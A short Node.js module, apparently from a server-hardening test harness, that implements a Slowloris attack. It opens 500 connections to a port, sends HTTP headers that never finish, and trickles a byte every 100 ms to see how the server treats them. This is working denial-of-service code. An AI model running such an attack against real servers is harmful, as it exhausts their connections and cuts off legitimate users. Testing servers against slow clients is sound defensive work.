// Slowloris: heads that never end, a byte now and then.

import { setTimeout as sleep } from "node:timers/promises";
import { fatesOf, openCrowd } from "../crowd.js";

const CLIENTS = 500;
const PAUSE_MS = 100;
/** Longer than the server's limit, so that all of them see what it does. */
const DURATION_MS = 6000;

export async function attack(port, height) {
  const crowd = await openCrowd(port, CLIENTS);
  for (const { socket } of crowd) socket.write("GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ");
  await sleep(PAUSE_MS);
  await height();
  const deadline = Date.now() + DURATION_MS;
  while (Date.now() < deadline && crowd.some(({ isOpen }) => isOpen)) {
    for (const { socket, isOpen } of crowd) if (isOpen) socket.write("a");
    await sleep(PAUSE_MS);
  }
  const fates = fatesOf(crowd);
  for (const abuser of crowd) abuser.leave();
  return fates;
}
